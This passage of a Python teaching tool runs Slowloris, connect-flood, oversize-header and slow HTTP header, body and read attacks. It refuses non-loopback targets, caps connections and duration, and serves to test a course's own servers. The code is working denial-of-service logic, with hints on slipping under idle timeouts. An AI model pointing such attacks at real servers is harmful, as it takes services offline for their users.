            reopen[:] = [(when, index) for when, index in reopen if when > now]
            for index in due:
                open_one(index)
            for conn in list(live.values()):
                if conn.next_tick > now or live.get(conn.index) is not conn:
                    continue
                if conn.connecting:  # next_tick is the connect deadline
                    finish_attempt = live.pop(conn.index)
                    selector.unregister(finish_attempt.sock)
                    finish_attempt.sock.close()
                    lost_attempt(conn.index)
                else:
                    tick(conn)
                    conn.next_tick = now + interval
            wake = min([c.next_tick for c in live.values()] + [t for t, _ in reopen] + [end]
                       + [start + (connections - len(to_open)) / rate] * bool(to_open))
            # Wake at least every 50 ms, so a stop request is noticed quickly.
            for key, _events in selector.select(max(0.0, min(wake - time.monotonic(), 0.05))):
                conn = key.data
                if live.get(conn.index) is not conn:
                    continue
                if conn.connecting:
                    connected(conn)
                else:
                    read_heads(conn)
        if attack_name == "slow-read":
            drain_replies(drain)
    finally:
        finished = time.monotonic()
        report.stopped = stop.is_set()
        report.elapsed = finished - start
        established = [c for c in live.values() if not c.connecting]
        report.failed += len(live) - len(established)  # still connecting at the end
        report.held = len(established)
        report.held_for = min((finished - c.opened for c in established), default=0.0)
        for conn in live.values():
            conn.sock.close()
        selector.close()
        if ready is not None:
            ready.set()  # never leave a waiter hanging, even if the attack failed early
    if attack_name == "slow-read" and smallest[0] < SMALL_REPLY:
        report.notes.append(f"the reply is only {smallest[0]} bytes: it may fit in the kernel's "
                            "socket buffers, and then the server is never kept waiting; ask for "
                            "a bigger file or repeat the request (--pipeline)")
    return report


def run_slow_headers(address, connections: int = 50, interval: float = 1.0,
                     duration: float = 10.0, reconnect: bool = False, **options) -> SlowHttpReport:
    """Slowloris on HTTP: headers that never end (see run_slow_http)."""
    return run_slow_http("slow-headers", address, connections, interval, duration, reconnect,
                         **options)


def run_slow_body(address, connections: int = 50, interval: float = 1.0, duration: float = 10.0,
                  reconnect: bool = False, **options) -> SlowHttpReport:
    """Complete headers, then a body one byte at a time (see run_slow_http); path '/echo'."""
    options.setdefault("path", "/echo")
    return run_slow_http("slow-body", address, connections, interval, duration, reconnect,
                         **options)


def run_slow_read(address, connections: int = 50, interval: float = 1.0, duration: float = 10.0,
                  reconnect: bool = False, **options) -> SlowHttpReport:
    """Ask for a big reply and read it a byte at a time (see run_slow_http)."""
    return run_slow_http("slow-read", address, connections, interval, duration, reconnect,
                         **options)


# --------------------------------------------------------------------------- the program


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m tools.attack",
        description="Attack a server on THIS machine to see which defences hold. Refuses any "
                    "target that is not a loopback address (127.0.0.0/8, ::1). At most "
                    f"{MAX_CONNECTIONS} connections and {MAX_DURATION:g} s.",
        epilog="Start a server first, e.g. `python -m solutions.message_server --port 0` (or "
               "`python -m solutions.lesson09_slow_http` for the slow HTTP attacks, with --url "
               "http://127.0.0.1:PORT/), and pass the port it prints. Ctrl-C stops an attack "
               "early and prints the summary.")
    attacks = parser.add_subparsers(dest="attack", required=True, metavar="ATTACK")

    def target_options(p):
        p.add_argument("--host", default="127.0.0.1",
                       help="target host; must be loopback (default: %(default)s)")
        p.add_argument("--port", type=int, required=True, help="target port (required)")

    p = attacks.add_parser(
        "slowloris", help="hold connections open by trickling one byte at a time",
        description="Open N connections; each announces a small message and then sends it one "
                    "byte every --interval seconds. Set the interval just under the server's "
                    "idle timeout: a per-recv timeout never fires, and each connection holds a "
                    "server thread (or a slot) for as long as the attack lasts. Reports how many "
                    "were held to the end, rejected with the busy reply, or dropped, and when.")
    target_options(p)
    p.add_argument("--connections", type=int, default=8,
                   help="connections to hold (1-1000, default: %(default)s)")
    p.add_argument("--interval", type=float, default=1.0,
                   help="seconds between bytes (default: %(default)s)")
    p.add_argument("--duration", type=float, default=10.0,
                   help="seconds to attack, at most 300 (default: %(default)s)")
    p.add_argument("--body-size", type=int, default=100,
                   help="body length each frame announces, in bytes (default: %(default)s)")
    p.add_argument("--reconnect", action="store_true",
                   help="reopen a connection as soon as the server drops or rejects it (off by "
                        "default; a real attacker would, to keep competing for the slots)")

    p = attacks.add_parser(
        "flood", help="connect and disconnect as fast as possible",
        description="A storm of connect/close cycles. Each waits up to --linger seconds to see "
                    "whether the server answers busy or closes, then hangs up. Counts accepted, "
                    "busy-rejected, closed, refused, reset and timed-out connections.")
    target_options(p)
    p.add_argument("--connections", type=int, default=200,
                   help="connect/close cycles in all (1-1000, default: %(default)s)")
    p.add_argument("--duration", type=float, default=10.0,
                   help="stop after this many seconds, at most 300 (default: %(default)s)")
    p.add_argument("--concurrency", type=int, default=20,
                   help="cycles running at the same time (1-100, default: %(default)s)")
    p.add_argument("--linger", type=float, default=0.1,
                   help="seconds to wait for a reply before closing (default: %(default)s)")

    p = attacks.add_parser(
        "oversize", help="announce a huge message and time how fast the server hangs up",
        description="Each connection sends a header announcing --length bytes (4 GiB by "
                    "default) and a few bytes of body, then times how long the server takes to "
                    "close it. A server that checks the size before reading closes at once.")
    target_options(p)
    p.add_argument("--connections", type=int, default=50,
                   help="connections, one after another (1-1000, default: %(default)s)")
    p.add_argument("--length", type=int, default=0xFFFFFFFF,
                   help="the forged body length, 0-4294967295 (default: %(default)s)")
    p.add_argument("--wait", type=float, default=2.0,
                   help="seconds to wait for the server to close each one (default: %(default)s)")
    p.add_argument("--duration", type=float, default=60.0,
                   help="stop after this many seconds, at most 300 (default: %(default)s)")

    def http_options(p, path, connections=50):
        p.add_argument("--url", help="target as http://127.0.0.1:PORT/path (instead of "
                                     "--host/--port/--path); must be loopback")
        p.add_argument("--host", default="127.0.0.1",
                       help="target host; must be loopback (default: %(default)s)")
        p.add_argument("--port", type=int, help="target port (required unless --url)")
        p.add_argument("--path", default=path, help="request path (default: %(default)s)")
        p.add_argument("--connections", type=int, default=connections,
                       help="connections to hold (1-1000, default: %(default)s)")
        p.add_argument("--interval", type=float, default=1.0,
                       help="seconds between slow steps (default: %(default)s)")
        p.add_argument("--duration", type=float, default=10.0,
                       help="seconds to attack, at most 300 (default: %(default)s)")
        p.add_argument("--reconnect", action="store_true",
                       help="reopen a connection as soon as the server drops or refuses it")
        p.add_argument("--rate", type=float, default=200.0,
                       help="connections opened per second, 1-10000 (default: %(default)s; a "
                            "burst overflows a short listen queue and is reset by the kernel)")

    p = attacks.add_parser(
        "slow-headers", help="HTTP Slowloris: request headers that never end",
        description="Each connection sends a request line, a Host header, and then one more "
                    "byte of a header line every --interval seconds, never finishing the "
                    "request. A server with only a per-recv timeout keeps every one; a total "
                    "header deadline drops them (often with 408). Over a connection cap the "
                    "server should answer 503 at once.")
    http_options(p, "/")

    p = attacks.add_parser(
        "slow-body", help="complete headers, then a body one byte at a time",
        description="Each connection sends complete POST headers with a Content-Length and "
                    "Content-Type: application/json, then the body one byte every --interval "
                    "seconds. A body deadline drops them; a server without one waits.")
    http_options(p, "/echo")
    p.add_argument("--body-size", type=int, default=1024,
                   help="the Content-Length announced, in bytes (default: %(default)s)")

    p = attacks.add_parser(
        "slow-read", help="ask for a big reply and read it a byte at a time",
        description="Each connection sets a tiny receive buffer, sends a complete GET (--pipeline "
                    "copies of it in one send), reads the reply's head, then reads --read-bytes "
                    "every --interval seconds (0: never). The reply must outgrow the kernel's "
                    "buffers (a few MiB on Linux) to keep the server's send blocked: pick a big "
                    "file or raise --pipeline. A send timeout makes the server give up.")
    http_options(p, "/")
    p.add_argument("--read-bytes", type=int, default=1,
                   help="bytes read each interval, 0 = never read (default: %(default)s)")
    p.add_argument("--rcvbuf", type=int, default=1024,
                   help="SO_RCVBUF asked for, in bytes (default: %(default)s)")
    p.add_argument("--pipeline", type=int, default=1,
                   help="copies of the GET sent at once, 1-1000 (default: %(default)s)")
    return parser


def _run_until_done(work, stop: threading.Event):
    """Run work() in a daemon thread so Ctrl-C can set `stop` and still get the report.

    We wait on an Event rather than Thread.join(): a join interrupted by Ctrl-C may not be
    safe to resume on every Python version. Returns None after a second Ctrl-C."""
    box: dict = {}
    done = threading.Event()

    def runner():
        try:
            box["report"] = work()
        except BaseException as exc:  # handed back to the main thread below
            box["error"] = exc
        finally:
            done.set()

    threading.Thread(target=runner, name="attack", daemon=True).start()
    try:
        while not done.wait(0.2):
            pass
    except KeyboardInterrupt:
        stop.set()  # the attack notices within 50 ms, closes its sockets and reports
        try:
            done.wait(MAX_DURATION)
        except KeyboardInterrupt:
            return None  # asked twice: leave now (the thread is a daemon)
    if "error" in box:
        raise box["error"]
    return box.get("report")


def main(argv: list[str] | None = None) -> int:
    """Exit status: 0 the attack ran, 1 nothing could connect, 2 refused (or bad arguments)."""
    args = build_parser().parse_args(argv)
    stop = threading.Event()
    try:
        # Every check runs before a single packet is sent.
        if args.attack in SLOW_HTTP and args.url:
            host, port, args.path = parse_url(args.url)
        elif args.attack in SLOW_HTTP and args.port is None:
            raise Refused("give the target as --url http://127.0.0.1:PORT/path or --port PORT")
        else:
            host, port = args.host, args.port
        target = loopback_target(host, port)
        _check_count("--connections", args.connections)
        _check_seconds("--duration", args.duration)
        if args.attack in SLOW_HTTP:
            _check_seconds("--interval", args.interval, most=60.0)
            if not 1 <= args.rate <= 10000:
                raise Refused(f"--rate must be between 1 and 10000 (got {args.rate:g})")
            options = {"path": args.path, "stop": stop, "rate": args.rate}
            if args.attack == "slow-body":
                _check_count("--body-size", args.body_size, most=1 << 30)
                options["body_size"] = args.body_size
                pace = f"one body byte of {args.body_size}"
            elif args.attack == "slow-read":
                _check_count("--rcvbuf", args.rcvbuf, most=1 << 20)
                _check_count("--pipeline", args.pipeline, most=1000)
                if not 0 <= args.read_bytes <= 65536:
                    raise Refused(f"--read-bytes must be between 0 and 65536 (got {args.read_bytes})")
                options.update(read_bytes=args.read_bytes, rcvbuf=args.rcvbuf,
                               pipeline=args.pipeline)
                pace = f"reading {args.read_bytes} byte(s)" if args.read_bytes else "reading nothing"
            else:
                pace = "one header byte"
            plan = (f"{args.connections} connections to {args.path}, {pace} every "
                    f"{args.interval:g} s, for up to {args.duration:g} s")
            work = lambda: run_slow_http(args.attack, target, args.connections, args.interval,
                                         args.duration, args.reconnect, **options)
        elif args.attack == "slowloris":
            _check_seconds("--interval", args.interval, most=60.0)
            _check_count("--body-size", args.body_size, most=65536)
            plan = (f"{args.connections} connections, one byte every {args.interval:g} s, "
                    f"for up to {args.duration:g} s")
            work = lambda: run_slowloris(target, args.connections, args.interval, args.duration,
                                         args.reconnect, stop=stop, body_size=args.body_size)
        elif args.attack == "flood":
            _check_count("--concurrency", args.concurrency, most=100)
            _check_seconds("--linger", args.linger, most=10.0)
            plan = (f"{args.connections} connect/close cycles, "
                    f"{min(args.concurrency, args.connections)} at a time")
            work = lambda: run_flood(target, args.connections, args.duration, stop=stop,
                                     concurrency=args.concurrency, linger=args.linger)
        else:
            _check_seconds("--wait", args.wait, most=60.0)
            if not 0 <= args.length <= 0xFFFFFFFF:
                raise Refused(f"--length must fit in 4 bytes: 0 to 4294967295 (got {args.length})")
            plan = f"{args.connections} connections announcing {args.length} bytes each"
            work = lambda: run_oversize(target, args.connections, args.length, wait=args.wait,
                                        duration=args.duration, stop=stop)
        print(f"{args.attack} on {_label(target)}: {plan} (Ctrl-C stops)", flush=True)
        report = _run_until_done(work, stop)
    except Refused as exc:
        print(f"python -m tools.attack: refused: {exc}", file=sys.stderr)
        return 2
    if report is None:
        print("interrupted twice: stopped without a summary", file=sys.stderr)
        return 130
    print(report.summary())
    if isinstance(report, FloodReport):
        connected = report.attempts - sum(report.outcomes[k] for k in ("refused", "timeout"))
    elif isinstance(report, (SlowlorisReport, SlowHttpReport)):
        connected = report.opened
    else:
        connected = sum(1 for r in report.results if r.how != "failed")
    if not connected:
        print(f"could not connect to {_label(target)}: is the server running on that port?",
              file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
